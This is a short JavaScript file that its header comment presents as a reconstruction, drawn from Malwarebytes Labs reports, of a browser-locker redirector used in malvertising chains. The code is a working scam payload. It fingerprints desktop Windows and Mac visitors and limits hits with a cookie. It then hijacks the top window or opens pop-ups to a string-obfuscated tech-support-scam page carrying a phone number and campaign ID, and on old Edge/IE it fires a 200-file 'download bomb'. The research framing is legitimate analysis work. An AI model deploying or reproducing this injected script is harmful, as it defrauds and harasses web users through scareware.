// browlock (variant b), written from Malwarebytes Labs' reports on malvertising chains that
// end in browser lockers (2017-2020): the injected redirector on a compromised or ad-serving
// page, which checks for a desktop Windows or Mac browser and a fresh visitor, then sends the
// top window to the locker page with the visitor's OS and a campaign ID; when top navigation
// is blocked (sandboxed ad frame) it tries a pop-up, and it spams the locker via the
// msSaveOrOpenBlob "download bomb" on old Edge/IE as the reports describe.
(function(w){
var u=navigator.userAgent;
var os=/Windows NT/.test(u)?"win":(/Macintosh/.test(u)?"mac":"");
if(!os||/Mobi|Android|bot|crawl|spider/i.test(u))return;
if(/(^|; )_bl=/.test(document.cookie))return;
document.cookie="_bl=1; path=/; max-age=86400";
var land=["https://","alert-","sec","urity-","check.invalid","/lp/",os,"/?cid=7731&ph=18005550199&ref=",encodeURIComponent(location.hostname)].join("");
function bomb(){if(!navigator.msSaveOrOpenBlob)return;
for(var i=0;i<200;i++)navigator.msSaveOrOpenBlob(new Blob(["VIRUS DETECTED "+i],{type:"text/plain"}),"virus_alert_"+i+".txt");}
setTimeout(function(){
try{w.top.location.href=land;}catch(e){
var p=w.open(land,"_blank");if(!p){document.addEventListener("mousedown",function(){w.open(land,"_blank");},{once:true});}}
bomb();
},1200);
})(window);
